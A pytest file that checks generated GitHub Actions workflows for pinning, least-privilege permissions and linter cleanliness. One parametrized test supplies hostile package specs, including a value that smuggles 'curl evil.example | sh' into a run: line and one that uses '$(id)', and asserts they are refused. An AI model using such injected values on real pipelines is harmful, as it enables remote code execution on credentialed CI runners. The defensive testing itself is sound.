"""The platform repository's generated workflows (`goldenpath ci render platform`): thin, pinned, least
privilege, and clean under zizmor (offline), actionlint and the GitHub workflow schema. All three linters are
PyPI packages in the test extra; a missing one fails, never skips. (They run end to end in the harness:
tests/e2e/test_delivery_workflows.py.)"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from goldenpath.delivery.workflows import ACTIONS, PINNED_PACKAGE
from goldenpath.errors import GoldenpathError
from tests.conftest import ENVIRONMENTS


def tool(name: str) -> str:
    found = shutil.which(name) or str(Path(sys.executable).parent / name)
    if not Path(found).exists():
        pytest.fail(f"{name} is not installed; it comes with pip install -e '.[test]'")
    return found


@pytest.fixture(scope="module")
def rendered(tmp_path_factory) -> Path:
    from goldenpath.cli.main import main

    out = tmp_path_factory.mktemp("workflows")
    assert main(["--environments", str(ENVIRONMENTS), "ci", "render", "platform", "--out", str(out)]) == 0
    return out


def files(directory: Path) -> list[str]:
    return sorted(str(p) for p in directory.glob("*.yml"))


def load(rendered: Path, name: str) -> dict:
    return yaml.safe_load((rendered / name).read_text())


def test_the_files_and_their_triggers(rendered):
    assert {p.name for p in rendered.glob("*.yml")} == {
        "goldenpath-plan.yml", "goldenpath-apply.yml", "goldenpath-drift.yml", "goldenpath-preview-reap.yml",
        "goldenpath-previews-dev.yml", "goldenpath-deploy.yml"}
    on = {name: load(rendered, name)[True] for name in ("goldenpath-plan.yml", "goldenpath-apply.yml",
                                                         "goldenpath-drift.yml", "goldenpath-previews-dev.yml")}
    assert on["goldenpath-plan.yml"] == {"pull_request": {"branches": ["main"]}}
    assert on["goldenpath-apply.yml"]["push"] == {"branches": ["main"]} and "confirm" in on["goldenpath-apply.yml"]["workflow_dispatch"]["inputs"]
    assert on["goldenpath-drift.yml"]["schedule"] == [{"cron": "23 3 * * *"}]
    assert set(on["goldenpath-previews-dev.yml"]["workflow_call"]["inputs"]) == {"service", "image-tag"}


def test_no_default_permissions_and_every_token_scope_is_explained(rendered):
    for path in rendered.glob("*.yml"):
        workflow = yaml.safe_load(path.read_text())
        assert workflow["permissions"] == {}, path.name
        text = path.read_text()
        for line in re.findall(r"^\s+(?:contents|id-token|pull-requests|issues): (?:read|write).*$", text, re.M):
            assert "#" in line, f"{path.name}: {line.strip()} says not why"


def test_actions_are_pinned_by_commit_and_goldenpath_by_version(rendered):
    pins = {name: sha for name, sha, _ in ACTIONS.values()}
    for path in rendered.glob("*.yml"):
        for name, ref in re.findall(r"uses: ([\w./-]+)@([\w.-]+)", path.read_text()):
            assert ref == pins[name], f"{path.name}: {name}@{ref}"
        for install in re.findall(r"pip install \"([^\"]+)\"", path.read_text()):
            assert install == PINNED_PACKAGE


def _jobs(rendered: Path) -> list[tuple[str, str, dict]]:
    return [(p.name, key, job) for p in sorted(rendered.glob("*.yml")) for key, job in yaml.safe_load(p.read_text())["jobs"].items()]


def test_goldenpath_is_installed_before_credentials_and_saved_plans_never_leave_a_job(rendered):
    for name, key, job in _jobs(rendered):
        steps = job.get("steps", [])
        install = [i for i, s in enumerate(steps) if "pip install" in s.get("run", "")]
        credentials = [i for i, s in enumerate(steps) if "configure-aws-credentials" in s.get("uses", "")]
        if credentials:
            assert install and install[0] < credentials[0], f"{name}:{key}"
        for step in steps:
            if "upload-artifact" in step.get("uses", ""):
                assert not any(word in step["with"]["path"] for word in ("plan", ".tfplan", "state")) or \
                    step["with"]["path"] == "goldenpath-ci/plans", f"{name}:{key}"


def test_untrusted_fields_reach_the_shell_only_through_the_environment(rendered):
    for name, key, job in _jobs(rendered):
        for step in job.get("steps", []):
            assert "${{" not in step.get("run", ""), f"{name}:{key}: an expression inside run:"


def test_production_applies_after_the_other_environments_and_queues_per_environment(rendered):
    jobs = load(rendered, "goldenpath-apply.yml")["jobs"]
    assert jobs["apply-prod"]["needs"] == ["check-prod", "apply-dev", "apply-staging"]
    assert "!contains(needs.*.result, 'failure')" in jobs["apply-prod"]["if"]
    for env in ("dev", "staging", "prod"):
        assert jobs[f"apply-{env}"]["environment"] == env
        assert jobs[f"apply-{env}"]["concurrency"] == {"group": f"goldenpath-apply-{env}", "cancel-in-progress": False}
        assert jobs[f"check-{env}"]["environment"] == f"goldenpath-drift-{env}"


def test_an_apply_job_outlasts_its_slowest_node_group_update(rendered):
    # GitHub cancels a job past its timeout mid-apply, leaving the state lock held: the apply job waits at least as
    # long as terraform may wait for a node group whose every batch takes EKS's whole 15-minute drain.
    from goldenpath.config.loader import load_environments
    from goldenpath.node_updates import GITHUB_JOB_MAX_MINUTES, node_update_minutes

    jobs = load(rendered, "goldenpath-apply.yml")["jobs"]
    for environment in load_environments(ENVIRONMENTS):
        timeout = jobs[f"apply-{environment.name}"]["timeout-minutes"]
        slowest = max(node_update_minutes(group.max_size) for group in environment.cluster.node_groups)
        assert slowest + 60 <= timeout <= GITHUB_JOB_MAX_MINUTES, (environment.name, slowest, timeout)
    assert jobs["apply-prod"]["timeout-minutes"] == 120 + node_update_minutes(6)  # prod's groups: max_size 6 and 12


def test_the_plan_matrix_names_its_environment_so_each_plan_role_has_its_own_subject(rendered):
    plan = load(rendered, "goldenpath-plan.yml")["jobs"]["plan"]
    assert plan["environment"] == "${{ matrix.plan.github_environment }}"
    assert plan["strategy"]["fail-fast"] is False and plan["permissions"] == {"id-token": "write"}
    assert "steps" in plan and not any("checkout" in s.get("uses", "") for s in plan["steps"])  # no code of the PR runs


def test_zizmor_offline_finds_nothing(rendered):
    result = subprocess.run([tool("zizmor"), "--offline", "--persona=auditor", *files(rendered)],
                            capture_output=True, text=True, env={"RUST_BACKTRACE": "0", "PATH": "/usr/bin:/bin"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout + result.stderr


def test_actionlint_passes(rendered):
    result = subprocess.run([tool("actionlint"), *files(rendered)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_github_workflow_schema_passes(rendered):
    result = subprocess.run([tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files(rendered)],
                            capture_output=True, text=True)
    assert result.returncode == 0 and "ok -- validation done" in result.stdout, result.stdout + result.stderr


def test_bad_input_is_one_error_and_nothing_is_written(tmp_path, capsys):
    from goldenpath.cli.main import main

    envs = tmp_path / "environments"
    shutil.copytree(ENVIRONMENTS, envs)
    shutil.copytree(ENVIRONMENTS.parent / "teams", tmp_path / "teams")
    shutil.copytree(ENVIRONMENTS.parent / "docs", tmp_path / "docs")
    prod = envs / "prod.yaml"
    prod.write_text(prod.read_text().replace("repository: acme/platform", "repository: acme/other-platform"))
    assert main(["--environments", str(envs), "ci", "render", "platform", "--out", str(tmp_path / "wf")]) == 2
    err = capsys.readouterr().err
    assert "prod.yaml: ci.repository: got 'acme/other-platform', expected 'acme/platform'" in err
    assert not (tmp_path / "wf").exists()
    assert main(["--environments", str(ENVIRONMENTS), "ci", "render", "platform", "--drift-cron", "nightly",
                 "--out", str(tmp_path / "wf")]) == 2
    assert "--drift-cron: got 'nightly', expected five cron fields" in capsys.readouterr().err


WHEEL_URL = "https://github.com/acme/goldenpath-mirror/releases/download/v0.12.0/goldenpath-0.12.0-py3-none-any.whl"


def test_the_package_every_workflow_installs_comes_from_ci_package(bundled_environments):
    from goldenpath.delivery.workflows import render_platform_workflows
    from goldenpath.tenancy.catalog import catalog_for
    from tests.conftest import REPO

    with_package = [e.model_copy(update={"ci": e.ci.model_copy(update={"package": WHEEL_URL})}) if e.ci else e
                    for e in bundled_environments]
    rendered = render_platform_workflows(with_package, catalog_for(REPO, with_package))
    installs = {name: re.findall(r"pip install \"([^\"]+)\"", text) for name, text in rendered.items()}
    assert all(found == [WHEEL_URL] * len(found) for found in installs.values()) and sum(map(len, installs.values())) >= 5
    # two environments that disagree: one platform repository installs one goldenpath
    first, *rest = with_package
    disagree = [first.model_copy(update={"ci": first.ci.model_copy(update={"package": "goldenpath==0.11.0"})}), *rest]
    with pytest.raises(GoldenpathError, match=r"ci.package: got .*expected 'goldenpath==0.11.0'|ci.package: got 'goldenpath==0.11.0'"):
        render_platform_workflows(disagree, catalog_for(REPO, disagree))


def _with_package(value: str) -> str:
    """dev.yaml with ``ci.package: value`` (a YAML scalar)."""
    text, count = re.subn(r"\nci:[^\n]*\n", lambda m: f"{m.group(0)}  package: {value}\n", (ENVIRONMENTS / "dev.yaml").read_text(), 1)
    assert count == 1
    return text


@pytest.mark.parametrize("spec", [
    "goldenpath",  # unpinned: whatever is newest
    "goldenpath>=0.11",
    'goldenpath==0.12.0"; curl evil.example | sh; "',  # written into a run: line
    "goldenpath==$(id)",
    "http://example.com/goldenpath-0.12.0-py3-none-any.whl",  # not https
    "https://example.com/other-1.0-py3-none-any.whl",
    "git+https://github.com/acme/goldenpath",  # no tag or commit
])
def test_a_package_spec_that_is_unpinned_or_could_inject_is_refused(spec):
    from goldenpath.config.loader import parse_environment

    text = _with_package(yaml.safe_dump(spec, default_style="'").strip())
    with pytest.raises(GoldenpathError, match=r"dev.yaml: ci.package: got"):
        parse_environment(text, "environments/dev.yaml")


@pytest.mark.parametrize("spec", ["goldenpath==0.12.0", "goldenpath[emulator]==0.12.0", WHEEL_URL,
                                  "git+https://github.com/acme/goldenpath@v0.12.0"])
def test_pinned_package_specs_are_accepted(spec):
    from goldenpath.config.loader import parse_environment

    text = _with_package(f"'{spec}'")
    assert parse_environment(text, "environments/dev.yaml").ci.package == spec
